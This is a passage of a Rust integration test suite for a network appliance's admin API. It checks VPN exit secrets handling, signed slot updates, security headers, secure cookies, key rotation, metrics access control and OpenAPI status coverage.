    let reply =
        api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "vpn", "wireguard": PROVIDER_FILE}))).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let listed = api.call(&admin, Method::GET, "/api/exits", None).await;
    assert_eq!(listed.body[0]["name"], "vpn", "{}", listed.body);
    assert_eq!(listed.body[0]["endpoint"], "192.0.2.10:51820");
    // The private key is in secrets/ (0600) and nowhere in the config or the store.
    let key = api.app.state.secrets().dir().join("exits/vpn/private.key");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    let config = api.call(&admin, Method::GET, "/api/config", None).await.body.to_string();
    assert!(!config.contains("YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw"), "the private key is in the config");
    let store = std::process::Command::new("grep")
        .args(["-r", "YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw"])
        .arg(api.app.state.root().join("store"))
        .output()
        .unwrap();
    assert!(store.stdout.is_empty(), "the private key is in the store");

    // A device sent through it: only with full routing.
    let reply = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop", "exit": "vpn"}))).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
    let reply = api
        .call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop", "routing": "full", "exit": "vpn"})))
        .await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);

    // In use: not removed; once the device leaves it, removed with its keys.
    let reply = api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await;
    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);
    assert!(reply.body["error"]["message"].as_str().unwrap().contains("device laptop"), "{}", reply.body);
    let reply = api.call(&admin, Method::PATCH, "/api/peers/laptop", Some(json!({"exit": null}))).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let reply = api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert!(!key.exists(), "the exit's keys outlive it");
    assert_eq!(api.call(&admin, Method::DELETE, "/api/exits/vpn", None).await.status, StatusCode::NOT_FOUND);

    // An OpenVPN exit: the file asks for an account, so one is needed; its container gets a
    // free address on the cell network; file and password stay in secrets/.
    let ovpn = "client\nremote vpn.example.net 1194\nauth-user-pass\n<ca>\nnot a real key\n</ca>\n";
    let new = json!({"name": "office", "openvpn": ovpn, "dns": "10.66.0.1"});
    let reply = api.call(&admin, Method::POST, "/api/exits", Some(new.clone())).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
    assert_eq!(reply.body["error"]["details"][0]["path"], "username", "{}", reply.body);
    let mut with_account = new.clone();
    with_account["username"] = json!("me");
    with_account["password"] = json!("account-password");
    let reply = api.call(&admin, Method::POST, "/api/exits", Some(with_account)).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let config = api.call(&admin, Method::GET, "/api/config", None).await.body;
    let exit = &config["connectivity"]["exits"][0];
    assert_eq!(exit["openvpn"]["address"], "172.20.0.32", "{config}");
    assert_eq!(exit["openvpn"]["remotes"], json!(["vpn.example.net 1194"]));
    assert!(!config.to_string().contains("account-password") && !config.to_string().contains("not a real key"));
    let auth = api.app.state.secrets().dir().join("exits/office/auth.txt");
    assert_eq!(std::fs::read_to_string(&auth).unwrap(), "me\naccount-password\n");
    assert_eq!(std::fs::metadata(&auth).unwrap().permissions().mode() & 0o777, 0o600);
    let listed = api.call(&admin, Method::GET, "/api/exits", None).await;
    assert_eq!(listed.body[0]["kind"], "openvpn", "{}", listed.body);

    // A Tor exit needs nothing but its name; one request with two ways out is refused.
    let both = json!({"name": "mixed", "tor": true, "wireguard": PROVIDER_FILE});
    let reply = api.call(&admin, Method::POST, "/api/exits", Some(both)).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", reply.body);
    let reply = api.call(&admin, Method::POST, "/api/exits", Some(json!({"name": "tor", "tor": true}))).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    let config = api.call(&admin, Method::GET, "/api/config", None).await.body;
    assert_eq!(config["connectivity"]["exits"][1], json!({"name": "tor", "tor": {"address": "172.20.0.33"}}));
}

/// A device made of files for `/api/updates`: the ESP a folder, the slots files, booted from A.
fn update_device(
    dir: &std::path::Path,
    key: &pic_builder::update::bundle::SigningKey,
    entry: &str,
) -> pic_builder::update::slots::Device {
    use pic_builder::update::slots::{Device, Layout, SlotDef};
    let esp = dir.join("esp");
    std::fs::create_dir_all(esp.join("loader/entries")).unwrap();
    std::fs::write(esp.join("loader/entries").join(entry), "options root=PARTUUID=aaaa ro\n").unwrap();
    let slot = |name: &str| {
        let device = dir.join(format!("slot-{name}"));
        std::fs::write(&device, vec![0u8; 1 << 16]).unwrap();
        SlotDef { name: name.into(), partuuid: name.repeat(4), device }
    };
    Device {
        layout: Layout { esp, slots: vec![slot("a"), slot("b")] },
        cmdline: "root=PARTUUID=aaaa ro".into(),
        trusted_key: pic_builder::update::bundle::public_key(key),
        state: dir.join("updates"),
        image_version: None,
    }
}

fn update_bundle(dir: &std::path::Path, key: &pic_builder::update::bundle::SigningKey, version: &str) -> Vec<u8> {
    use pic_builder::update::bundle::{self, Manifest, Parts};
    let (root, kernel, initrd) = (dir.join("root"), dir.join("kernel"), dir.join("initrd"));
    for (path, text) in [(&root, "root"), (&kernel, "kernel"), (&initrd, "initrd")] {
        std::fs::write(path, text).unwrap();
    }
    let manifest = Manifest {
        format: bundle::FORMAT,
        version: version.parse().unwrap(),
        architecture: bundle::ARCHITECTURE.into(),
        min_from_version: "0".parse().unwrap(),
        cmdline: "ro".into(),
        payloads: Vec::new(),
    };
    let output = dir.join(format!("{version}.picupd"));
    bundle::write(&Parts { root: &root, kernel: &kernel, initrd: &initrd }, manifest, key, &output).unwrap();
    std::fs::read(output).unwrap()
}

#[tokio::test]
async fn updates_are_uploaded_into_the_other_slot_refused_with_a_reason_and_need_a_confirmed_boot() {
    let mut api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    // A machine not started from a PIC image says so.
    let reply = api.call(&admin, Method::GET, "/api/updates", None).await;
    assert_eq!((reply.status, &reply.body["supported"]), (StatusCode::OK, &json!(false)), "{}", reply.body);
    let (status, _, _) = api.call_bytes(&admin, Method::POST, "/api/updates", b"x".to_vec()).await;
    assert_eq!(status, StatusCode::CONFLICT);

    let dir = tempfile::tempdir().unwrap();
    let key = pic_builder::update::bundle::SigningKey::from_bytes(&[3u8; 32]);
    api.app.updates = Some(std::sync::Arc::new(update_device(dir.path(), &key, "pic-5.conf")));
    let reply = api.call(&admin, Method::GET, "/api/updates", None).await;
    assert_eq!(reply.body["version"], "5", "{}", reply.body);
    assert_eq!((reply.body["booted_slot"].as_str(), reply.body["ready"].as_bool()), (Some("a"), Some(true)));
    // Only an admin.
    let anonymous = api.call(&Client::default(), Method::GET, "/api/updates", None).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);

    // Refused: another key's bundle, an older one; nothing is left behind.
    let stranger = pic_builder::update::bundle::SigningKey::from_bytes(&[4u8; 32]);
    for (bundle, code) in [
        (update_bundle(dir.path(), &stranger, "6"), "bad_signature"),
        (update_bundle(dir.path(), &key, "4"), "not_newer"),
    ] {
        let (status, _, body) = api.call_bytes(&admin, Method::POST, "/api/updates", bundle).await;
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some(code)), "{body}");
    }
    let nothing_waiting = api.call(&admin, Method::POST, "/api/updates/reboot", None).await;
    assert_eq!(nothing_waiting.status, StatusCode::CONFLICT, "{}", nothing_waiting.body);

    let mut events = api.app.events.subscribe();
    let (status, _, body) =
        api.call_bytes(&admin, Method::POST, "/api/updates", update_bundle(dir.path(), &key, "6")).await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(
        (status, body["slot"].as_str(), body["version"].as_str()),
        (StatusCode::OK, Some("b"), Some("6")),
        "{body}"
    );
    let mut progress = Vec::new();
    while let Ok(event) = events.try_recv() {
        if event["operation"] == "update" {
            progress.push(event["done_bytes"].as_u64().unwrap());
        }
    }
    assert_eq!(progress.last(), Some(&(4 + 6 + 6)), "progress up to every payload byte: {progress:?}");
    assert!(std::fs::read_dir(dir.path().join("updates")).unwrap().next().is_none(), "the upload was left behind");
    let reply = api.call(&admin, Method::GET, "/api/updates", None).await;
    assert_eq!(
        (reply.body["slots"][1]["state"].as_str(), reply.body["slots"][1]["tries_left"].as_u64()),
        (Some("trying"), Some(3))
    );

    // Booted into it, not yet confirmed: no further update, said before the upload is taken.
    let mut trying = update_device(dir.path(), &key, "pic-5.conf");
    std::fs::rename(
        dir.path().join("esp/loader/entries/pic-6+3.conf"),
        dir.path().join("esp/loader/entries/pic-6+2-1.conf"),
    )
    .unwrap();
    trying.cmdline = "root=PARTUUID=bbbb ro".into();
    api.app.updates = Some(std::sync::Arc::new(trying));
    let (status, _, body) =
        api.call_bytes(&admin, Method::POST, "/api/updates", update_bundle(dir.path(), &key, "7")).await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!((status, body["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("not_confirmed")), "{body}");
    let reply = api.call(&admin, Method::GET, "/api/updates", None).await;
    assert_eq!(
        (reply.body["boot"].as_str(), reply.body["version"].as_str()),
        (Some("trying"), Some("6")),
        "{}",
        reply.body
    );
}

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_the_front_doors_page_its_own_policy() {
    let api = Api::new();
    let reply = api.call(&Client::default(), Method::GET, "/health", None).await;
    let header = |name: &str| reply.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert!(header("content-security-policy").starts_with("default-src 'self'"), "{:?}", reply.headers);
    assert!(header("content-security-policy").contains("frame-ancestors 'none'"));
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("referrer-policy"), "no-referrer");
    assert!(header("permissions-policy").contains("camera=()"));
    // An error answer too.
    let missing = api.call(&Client::default(), Method::GET, "/api/no-such-thing", None).await;
    assert!(missing.headers.contains_key("content-security-policy"));

    // The progress page allows exactly its own inline style and script, by their hashes.
    let policy = crate::device::page::content_security_policy();
    let page = crate::device::page::html(&api.app.device.status()).into_string();
    use base64::Engine as _;
    use sha2::Digest as _;
    let inline = |open: &str, close: &str| {
        let start = page.find(open).unwrap() + open.len();
        let text = &page[start..start + page[start..].find(close).unwrap()];
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(text.as_bytes()))
    };
    assert!(policy.contains(&format!("'sha256-{}'", inline("<style>", "</style>"))), "{policy}");
    assert!(policy.contains(&format!("'sha256-{}'", inline("<script>", "</script>"))), "{policy}");
    assert!(policy.starts_with("default-src 'none'"));
}

#[tokio::test]
async fn session_cookies_are_secure_when_the_login_came_over_https() {
    let api = Api::new();
    api.setup().await;
    let body = json!({"username": "admin", "password": ADMIN_PASSWORD}).to_string();
    for (proto, secure) in [(Some("https"), true), (Some("http"), false), (None, false)] {
        let extra: Vec<(&str, &str)> = proto.map(|p| ("x-forwarded-proto", p)).into_iter().collect();
        let reply = api.call_raw(&Client::default(), Method::POST, "/api/auth/login", Some(body.clone()), &extra).await;
        assert_eq!(reply.status, StatusCode::OK);
        let cookies: Vec<&str> =
            reply.headers.get_all(header::SET_COOKIE).iter().map(|v| v.to_str().unwrap()).collect();
        assert_eq!(cookies.len(), 2, "{cookies:?}");
        for cookie in cookies {
            assert_eq!(cookie.contains("; Secure"), secure, "{proto:?}: {cookie}");
        }
    }
}

#[tokio::test]
async fn the_wireguard_server_as_its_page_shows_it() {
    let api = Api::new();
    api.setup().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let server = api.call(&admin, Method::GET, "/api/wireguard", None).await;
    assert_eq!(server.status, StatusCode::OK, "{}", server.body);
    assert_eq!((&server.body["address"], &server.body["subnet"]), (&json!("10.8.0.1"), &json!("10.8.0.0/24")));
    let key = server.body["public_key"].as_str().unwrap();
    assert!(pic_builder::config::is_wireguard_key(key), "{key}");
    assert_eq!(server.body["peers"], 0);

    // A new key: a new generation said in words, every device's config names it.
    let phone = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "phone"}))).await;
    assert_eq!(phone.status, StatusCode::CREATED);
    let before = api.app.state.current().unwrap().unwrap();
    let rotated = api.call(&admin, Method::POST, "/api/wireguard/rotate-key", None).await;
    assert_eq!(rotated.status, StatusCode::OK, "{}", rotated.body);
    let new_key = rotated.body["public_key"].as_str().unwrap().to_owned();
    assert_ne!(new_key, key);
    assert_eq!(rotated.body["generation"], before + 1);
    assert_eq!(api.app.state.summary(before + 1).unwrap(), ["the VPN server's key changed"]);
    let config = api.call_text(&admin, "/api/peers/phone/config").await;
    assert!(config.contains(&format!("PublicKey = {new_key}")), "{config}");
    let again = api.call(&admin, Method::GET, "/api/wireguard", None).await;
    assert_eq!(again.body["public_key"], new_key.as_str());

    // A linked cell knows the key: no rotation while it is linked.
    let linked = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/linked.json")).unwrap();
    let linked: Value = serde_json::from_str(&linked).unwrap();
    let link: pic_builder::config::Link = serde_json::from_value(linked["links"][0].clone()).unwrap();
    {
        let writer = api.app.state.writer().unwrap();
        let config = writer
            .desired_with(|c| {
                c.links.push(link);
                Ok(())
            })
            .unwrap();
        writer.build_and_switch(&config, "linked parents").unwrap();
    }
    let refused = api.call(&admin, Method::POST, "/api/wireguard/rotate-key", None).await;
    assert_eq!(refused.status, StatusCode::CONFLICT, "{}", refused.body);
    assert_eq!(refused.body["error"]["code"], "linked_cells");
    assert!(refused.body["error"]["message"].as_str().unwrap().contains("parents"), "{}", refused.body);
    assert_eq!(api.call(&admin, Method::GET, "/api/wireguard", None).await.body["public_key"], new_key.as_str());
}

/// `GET /metrics`: an admin's session or the scraper's token, nobody else; what a change does
/// shows in it.
#[tokio::test]
async fn metrics_for_an_admin_or_the_token() {
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let peer = api.login("bob", PEER_PASSWORD).await;
    assert_eq!(api.call(&Client::default(), Method::GET, "/metrics", None).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(api.call(&peer, Method::GET, "/metrics", None).await.status, StatusCode::FORBIDDEN);
    let created = api.call(&admin, Method::POST, "/api/peers", Some(json!({"name": "laptop"}))).await;
    assert_eq!(created.status, StatusCode::CREATED);

    let text = api.call_text(&admin, "/metrics").await;
    // Generation 2 made the user bob, 3 the laptop.
    for line in ["pic_generation_current 3", "pic_peers 1", "pic_peers_online 0", "pic_rollbacks_total 0"] {
        assert!(text.lines().any(|l| l == line), "{line} missing from:\n{text}");
    }
    assert!(text.contains("pic_switch_duration_seconds_count 2"), "{text}");
    assert!(!text.contains("pic_backup_age_seconds"), "no backup, no age: {text}");
    assert!(text.contains("pic_certificate_remaining_seconds{name=\"lan\"}"), "{text}");
    assert!(text.contains("pic_data_free_bytes "), "{text}");

    let token = super::metrics::token(api.app.state.secrets().dir()).unwrap();
    let scrape = |authorization: String| {
        let request =
            Request::get("/metrics").header(header::AUTHORIZATION, authorization).body(Body::empty()).unwrap();
        router(api.app.clone()).oneshot(request)
    };
    let ok = scrape(format!("Bearer {token}")).await.unwrap();
    assert_eq!(ok.status(), StatusCode::OK);
    assert!(ok.headers()[header::CONTENT_TYPE].to_str().unwrap().starts_with("text/plain; version=0.0.4"));
    assert_eq!(scrape("Bearer not-the-token".into()).await.unwrap().status(), StatusCode::UNAUTHORIZED);
    assert_eq!(super::metrics::token(api.app.state.secrets().dir()).unwrap(), token, "made once");
}

/// The space warning is said once, when it appears (the watch loop makes it an event).
#[test]
fn the_space_warning_is_raised_when_it_appears() {
    let device = super::device::Device::new(None);
    let seen = |free_bytes: u64| crate::device::Observed {
        storage: Some(crate::device::storage::Storage { data_bytes: 10 << 30, free_bytes, disk_bytes: None }),
        problem: None,
        blocked: false,
        engine: None,
        setup_complete: true,
        ca_fingerprint: None,
        addresses: Vec::new(),
        uptime: std::time::Duration::from_secs(20),
    };
    assert_eq!(device.publish(crate::device::Status::from(&seen(5 << 30))), None);
    let raised = device.publish(crate::device::Status::from(&seen(512 << 20))).expect("95 % full is warned about");
    assert!(raised.starts_with("The data partition is 95 % full: 536 MB free of 10.7 GB"), "{raised}");
    assert_eq!(device.publish(crate::device::Status::from(&seen(500 << 20))), None, "once");
    assert_eq!(device.publish(crate::device::Status::from(&seen(5 << 30))), None);
    assert!(device.status().space_warning.is_none());
}

/// Every status a route answers is in its OpenAPI document: each operation asked by nobody before
/// setup, by nobody and by a peer without the CSRF token after it, and by an admin with a body
/// that is not JSON, not `application/json`, or of the wrong shape, and with a path parameter that
/// does not parse. (An admin's well-formed requests are the other tests' business: they change
/// the cell.) Without the statuses the layers add, 178 answers were undocumented.
#[tokio::test]
async fn every_status_a_route_answers_is_documented() {
    /// What is asked: in what way, of which server, by whom, at which URI, with what body.
    type Case<'a> = (&'a str, &'a Api, &'a Client, String, Option<(&'a str, &'a str)>);
    let doc = serde_json::to_value(super::openapi()).unwrap();
    let fresh = Api::new();
    let api = Api::new();
    api.setup().await;
    api.add_peer_user().await;
    let admin = api.login("admin", ADMIN_PASSWORD).await;
    let mut peer = api.login("bob", PEER_PASSWORD).await;
    peer.send_csrf = false;
    let send = |api: &Api, client: &Client, method: &Method, uri: &str, body: Option<(&str, &str)>| {
        let mut request = Request::builder().method(method.clone()).uri(uri);
        let mut cookies = Vec::new();
        if let Some(s) = &client.session {
            cookies.push(format!("pic_session={s}"));
        }
        if let Some(c) = &client.csrf {
            cookies.push(format!("csrf_token={c}"));
            if client.send_csrf {
                request = request.header("x-csrf-token", c);
            }
        }
        if !cookies.is_empty() {
            request = request.header(header::COOKIE, cookies.join("; "));
        }
        let request = match body {
            Some((kind, text)) => request.header(header::CONTENT_TYPE, kind).body(Body::from(text.to_owned())),
            None => request.body(Body::empty()),
        }
        .unwrap();
        let router = router(api.app.clone());
        async move { router.oneshot(request).await.unwrap().status() }
    };

    let nobody = Client::default();
    let mut asked = 0;
    let mut undocumented = Vec::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            let Ok(method) = method.to_uppercase().parse::<Method>() else { continue };
            let documented: Vec<&String> = operation["responses"].as_object().unwrap().keys().collect();
            let params: Vec<&Value> =
                operation["parameters"].as_array().map(|p| p.iter().collect()).unwrap_or_default();
            let fill = |bad: bool| {
                let mut uri = path.clone();
                for p in params.iter().filter(|p| p["in"] == "path") {
                    let name = p["name"].as_str().unwrap();
                    let numeric = p["schema"]["type"] == "integer";
                    let value = if bad && numeric {
                        "not-a-number"
                    } else if numeric {
                        "999"
                    } else {
                        "nosuch"
                    };
                    uri = uri.replace(&format!("{{{name}}}"), value);
                }
                uri
            };
            let json_body = operation["requestBody"]["content"].get("application/json").is_some();
            let mut cases: Vec<Case> = vec![
                ("before setup", &fresh, &nobody, fill(false), None),
                ("without a session", &api, &nobody, fill(false), None),
            ];
            if method != Method::GET {
                cases.push(("a peer without the CSRF token", &api, &peer, fill(false), None));
            }
            if json_body {
                cases.push(("not JSON", &api, &admin, fill(false), Some(("application/json", "{not json"))));
                cases.push(("not application/json", &api, &admin, fill(false), Some(("text/plain", "{}"))));
                cases.push(("JSON of the wrong shape", &api, &admin, fill(false), Some(("application/json", "[1]"))));
            }
            if params.iter().any(|p| p["in"] == "path" && p["schema"]["type"] == "integer") {
                cases.push(("a path parameter that does not parse", &api, &admin, fill(true), None));
            }
            for (what, api, client, uri, body) in cases {
                let status = send(api, client, &method, &uri, body).await;
                asked += 1;
                if !documented.contains(&&status.as_u16().to_string()) {
                    undocumented.push(format!("{method} {path} ({what}): {status}, documented {documented:?}"));
                }
            }
        }
    }
    assert!(asked > 200, "only {asked} requests: the document lost its routes?");
    assert!(undocumented.is_empty(), "{} undocumented:\n{}", undocumented.len(), undocumented.join("\n"));
}
